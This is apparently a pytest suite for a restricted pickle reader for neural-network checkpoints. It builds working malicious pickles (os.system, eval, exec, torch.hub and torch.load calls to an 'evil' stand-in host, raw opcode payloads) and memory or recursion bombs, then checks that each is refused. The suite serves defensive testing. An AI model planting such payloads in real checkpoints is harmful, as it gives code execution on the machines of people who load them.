"""Pickles: read as Python reads them where they are harmless, and never carried out where they are not."""

from __future__ import annotations

import io
import os
import pickle
import pickletools
import struct
import time
import tracemalloc
from collections import OrderedDict
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.weights.checkpoints import Call, Global, Raw, code_of, pickled, storage, tensor, zipped
from tiepoint.errors import ReadError
from tiepoint.weights import read_checkpoint
from tiepoint.weights.pickled import RefusedError, read_pickle

plain = st.recursive(
    st.none() | st.booleans() | st.integers(-(1 << 300), 1 << 300) | st.floats(allow_nan=False) | st.text(),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.lists(inner, max_size=4).map(tuple)
        | st.dictionaries(st.text() | st.integers(-(1 << 31), 1 << 31), inner, max_size=4)
    ),
    max_leaves=12,
)


@settings(max_examples=300, deadline=None)
@given(plain, st.integers(2, 5))
def test_plain_values_as_python_writes_them(value: Any, protocol: int) -> None:
    stream = io.BytesIO(pickle.dumps(value, protocol) + b"more")
    assert read_pickle(stream) == (value, {})
    assert stream.read() == b"more"


def test_what_is_shared_and_what_is_ordered() -> None:
    shared = [1, 2]
    value = OrderedDict(a=shared, b=(shared, shared))
    for protocol in range(2, 6):
        read, _ = read_pickle(io.BytesIO(pickle.dumps(value, protocol)))
        assert read == {"a": [1, 2], "b": ([1, 2], [1, 2])}


class Hostile:
    """Runs a function when Python unpickles it."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def attacks(marker: Path) -> dict[str, bytes]:
    command = f"touch {marker}"
    harmless = Call(Global("collections OrderedDict"), ())
    function = code_of(Global("torch._utils _rebuild_tensor_v2"))
    return {
        "os.system": pickle.dumps(Hostile(os.system, command), 2),
        "os.system, protocol 4": pickle.dumps(Hostile(os.system, command), 4),
        "eval": pickle.dumps({"a": Hostile(eval, f"__import__('os').system({command!r})")}, 2),
        "exec": pickle.dumps([Hostile(exec, f"import os; os.system({command!r})")], 4),
        "open": pickle.dumps(Hostile(open, str(marker), "w"), 2),
        "nested": pickle.dumps(OrderedDict(a=OrderedDict(b=(1, [Hostile(os.system, command)]))), 2),
        "attribute": pickled(Call(Global("builtins getattr"), (Global("os system"), "__call__"))),
        "torch.hub": pickled(Call(Global("torch.hub load"), ("evil/repository", "model"))),
        "torch.load": pickled(Call(Global("torch.serialization load"), ("http://evil/",))),
        "torch, deeper": pickled(Call(Global("torch serialization.os.system"), (command,))),
        "collections, deeper": pickled(Call(Global("collections abc.sys.modules"), ())),
        "instance": b"\x80\x02(X" + len(command).to_bytes(4, "little") + command.encode() + b"ios\nsystem\n.",
        "object": b"\x80\x02(cos\nsystem\nX" + len(command).to_bytes(4, "little") + command.encode() + b"o.",
        "extension": b"\x80\x02\x82\x01.",
        "new object": b"\x80\x02" + code_of(Global("collections OrderedDict")) + b")\x81.",
        "call of a result": pickled(Call(harmless, (command,))),
        "call of a storage": pickled(Call(Global("torch FloatStorage"), (command,))),
        "attributes of a function": pickled(Raw(function + code_of((None, {"__defaults__": ()})) + b"b")),
        "persistent text": b"\x80\x02Psomething\n.",
    }


@pytest.mark.parametrize("name", attacks(Path("marker")))
def test_an_attack_is_refused_and_nothing_runs(name: str, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    attack = attacks(marker)[name]
    pickletools.dis(attack, io.StringIO())  # it is a pickle, not garbage
    with pytest.raises(RefusedError):
        read_pickle(io.BytesIO(attack))
    with pytest.raises(ReadError, match=r"^the checkpoint ") as told:
        read_checkpoint(zipped(Raw(attack[2:-1]), {}))
    assert "\n" not in str(told.value)
    assert not marker.exists()


def test_the_attacks_are_real(tmp_path: Path) -> None:
    """Python itself falls for them; else the test above would prove nothing."""
    marker = tmp_path / "marker"
    for name in ("os.system", "eval", "nested", "instance", "object"):
        pickle.loads(attacks(marker)[name])
        assert marker.exists(), name
        marker.unlink()


def test_a_refusal_names_what_was_asked_for() -> None:
    with pytest.raises(ReadError, match=r"asks for 'posix.system', which is no part of a network's weights"):
        read_checkpoint(zipped(Raw(pickle.dumps(Hostile(os.system, "true"), 2)[2:-1]), {}))
    with pytest.raises(ReadError, match=r"asks for NEWOBJ, an instruction that no weights need"):
        read_checkpoint(zipped(Raw(code_of(Global("collections OrderedDict")) + b")\x81"), {}))
    with pytest.raises(ReadError) as told:
        read_checkpoint(zipped(Global("x" * 10_000 + " \x1b[31m"), {}))
    assert len(str(told.value)) < 200
    assert "\x1b" not in str(told.value)


def test_bombs_are_defused_at_once() -> None:
    begin = time.monotonic()
    deep = b")" + b"\x85" * 500_000  # a tuple in a tuple in a tuple; hashing it would exhaust the C stack
    doubled = b"}" + b"".join(  # a dictionary that holds the one before it twice, forty times
        b"q%c}(X\x01\x00\x00\x00ah%cX\x01\x00\x00\x00bh%cu" % (n, n, n) for n in range(40)
    )
    numbers = [code_of(number * ((1 << 61) - 1)) for number in range(-10_000, 10_000)]
    bombs = {
        "slot": b"}r\xff\xff\xff\xff0}",
        "deep key": b"}" + deep + b"Ns",
        "deep name": deep + b"X\x01\x00\x00\x00a\x93",
        "deep values": b"}(X\x01\x00\x00\x00a" * 100 + b"N" + b"u" * 100,
        "doubled": doubled,
        "claims": b"\x8e\xff\xff\xff\xff\xff\xff\xff\x7f",
        "long string": b"X\xff\xff\xff\x7fabc",
        "endless": b"N" * 3_000_000,
        "one hash": b"}(" + b"".join(number + b"N" for number in numbers[10_001:]) + b"u",
        "one hash, below zero": b"}(" + b"".join(number + b"N" for number in numbers[:10_000]) + b"u",
    }
    for name, code in bombs.items():
        with pytest.raises(ReadError, match=r"^the checkpoint "):
            read_checkpoint(zipped(Raw(code), {}))
        assert time.monotonic() - begin < 60, name


def nested(*keys: str) -> bytes:
    """Twenty thousand names of one tensor, in dictionaries in dictionaries."""
    first = b"K\x00" + code_of(tensor(storage("float32", "0", 1), (1,))) + b"q\x05"
    others = b"".join(b"M" + struct.pack("<H", number) + b"h\x05" for number in range(1, 20_000))
    return b"".join(b"}" + code_of(key) for key in keys) + b"}(" + first + others + b"u" + b"s" * len(keys)


def test_small_files_take_little_memory() -> None:
    pairs = code_of(([(str(number), None) for number in range(20_000)],))
    ordered = code_of(Global("collections OrderedDict"))
    bombs = {
        "has more than 2000000 instructions and entries": ordered + b"q\x01" + pairs + b"q\x02("
        + b"h\x01h\x02R" * 4000 + b"t",
        "has a key of 100000 letters, more than 1000": nested("k" * 100_000),
        "has a tensor whose name has more than 1000 letters": nested(*["k" * 1000] * 30),
    }  # fmt: skip
    for words, code in bombs.items():
        file = zipped(Raw(code), {"0": bytes(4)})
        tracemalloc.start()
        try:
            with pytest.raises(ReadError, match=f"^the checkpoint {words}$"):
                read_checkpoint(file)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert len(file) < 300_000
        assert peak < 100_000_000, words
    assert len(read_checkpoint(zipped(Raw(nested("k" * 900)), {"0": bytes(4)}))) == 20_000


def test_keys_that_weights_have_are_read() -> None:
    values = {"k" * 1000: 1, 1 << 31: 2, -(1 << 31): 3, True: 4}
    assert read_pickle(io.BytesIO(pickled(values)))[0] == values
    ordered = Call(Global("collections OrderedDict"), ([("a", 1), ("b", 2)],))
    assert read_pickle(io.BytesIO(pickled(ordered)))[0] == {"a": 1, "b": 2}


def test_a_dictionary_in_itself_is_refused() -> None:
    loop: dict[str, Any] = {}
    loop["self"] = loop
    with pytest.raises(ReadError, match="more than 32 deep"):
        read_checkpoint(zipped(Raw(pickle.dumps(loop, 2)[2:-1]), {}))


pieces = st.sampled_from(
    [b"}", b"]", b")", b"(", b"t", b"\x85", b"\x86", b"\x87", b"u", b"s", b"e", b"a", b"R", b"Q", b"b",
     b"N", b"\x88", b"K\x03", b"q\x00", b"h\x00", b"\x94", b"X\x01\x00\x00\x00a", b"X\x07\x00\x00\x00storage",
     b"ctorch\nFloatStorage\n", b"ccollections\nOrderedDict\n", b"ctorch._utils\n_rebuild_tensor_v2\n",
     b"ctorch._utils\n_rebuild_parameter\n", b"\x93", b"G\x00\x00\x00\x00\x00\x00\x00\x00"]
)  # fmt: skip


@settings(max_examples=1500, deadline=None)
@given(st.lists(pieces, max_size=25) | st.binary(max_size=60).map(lambda data: [data]))
def test_any_sequence_of_instructions_is_read_or_refused(code: list[bytes]) -> None:
    try:
        read_checkpoint(zipped(Raw(b"".join(code)), {"a": bytes(12)}))
    except ReadError:
        return
